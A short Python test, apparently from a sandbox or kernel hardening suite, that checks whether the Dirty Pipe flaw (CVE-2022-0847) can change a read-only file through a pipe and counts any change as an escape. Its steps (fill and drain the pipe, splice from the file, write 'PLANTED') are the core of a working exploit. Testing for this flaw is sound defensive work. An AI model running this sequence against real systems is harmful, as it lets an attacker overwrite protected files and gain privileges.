# tries: to change a read-only file in the page cache through a pipe that still may merge (CVE-2022-0847)
# must hold: the file reads as before
# needs: ctypes
import ctypes, os
before = read(os.__file__)
inside, outside = os.pipe()
os.set_blocking(outside, False)
try:
    while True:
        os.write(outside, b"x" * 4096)
except BlockingIOError:
    pass
os.read(inside, 1 << 20)
file = os.open(os.__file__, os.O_RDONLY)
offset = ctypes.c_long(1)
allowed(call, "splice", file, ctypes.pointer(offset), outside, 0, 1, 0)
allowed(os.write, outside, b"PLANTED")
if read(os.__file__) != before:
    escaped("the page cache was changed")
